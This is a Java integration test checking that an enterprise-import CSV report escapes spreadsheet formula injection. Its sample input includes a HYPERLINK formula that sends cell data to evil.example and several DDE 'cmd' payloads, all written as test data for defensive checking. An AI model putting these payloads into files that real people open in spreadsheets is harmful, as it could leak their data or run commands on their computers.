package org.essor.registry.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.StringReader;
import java.time.Duration;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.essor.testing.identifiers.TestIdentifiers;
import org.essor.testing.quarkus.EssorTestServers;
import org.essor.testing.quarkus.KeycloakTestResource;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * An imported file is written by someone else and its report is opened in a spreadsheet by an officer: what the file
 * said comes back in the report's cells, and none of them may run there as a formula (OWASP's CSV injection rule).
 */
@QuarkusTest
@WithTestResource(EssorTestServers.class)
@WithTestResource(KeycloakTestResource.class)
class ImportReportInjectionTest {

    static final String IMPORTS = "/api/v1/enterprise-imports";
    static final String HEADER = "siren,siret,nom_complet,categorie_juridique,activite_principale,tranche_effectif_salarie,"
            + "code_commune,identifiant_association,est_ess";

    @Test
    void theReportOfAMaliciousImportRunsNoFormula() throws IOException {
        Caller officer = Caller.officer();
        String siren = TestIdentifiers.siren();
        String file = String.join("\n", HEADER,
                "\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",,Association Piège,9220,88.99B,01,31555,,O",
                "+33612345678,,Association Plus,9220,88.99B,01,31555,,O",
                "-2+3+cmd|'/Ccalc'!A0,,Association Moins,9220,88.99B,01,31555,,O",
                "@SUM(1+1)*cmd|'/Ccalc'!A0,,Association Arobase,9220,88.99B,01,31555,,O",
                siren + "," + TestIdentifiers.siret(siren, 1) + ",Association Honnête,9220,88.99B,01,31555,,O",
                "");

        Response submitted = officer.request().contentType("text/csv").body(file).post(IMPORTS);
        submitted.then().statusCode(202);
        String location = submitted.header("Location");
        await().atMost(Duration.ofMinutes(2)).pollInterval(Duration.ofMillis(500))
                .until(() -> "COMPLETED".equals(officer.request().get(location).path("status")));

        Response report = officer.request().accept("text/csv").get(location + "/report");
        report.then().statusCode(200).contentType("text/csv");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(report.asString())).getRecords();

        assertThat(rows).hasSize(5);
        assertThat(rows).extracting(row -> row.get("siren")).containsExactly(
                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "'+33612345678", "'-2+3+cmd|'/Ccalc'!A0",
                "'@SUM(1+1)*cmd|'/Ccalc'!A0", siren);
        assertThat(rows).extracting(row -> row.get("outcome"))
                .containsExactly("REJECTED", "REJECTED", "REJECTED", "REJECTED", "CREATED");
        assertThat(rows).flatExtracting(CSVRecord::toList)
                .allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
    }
}
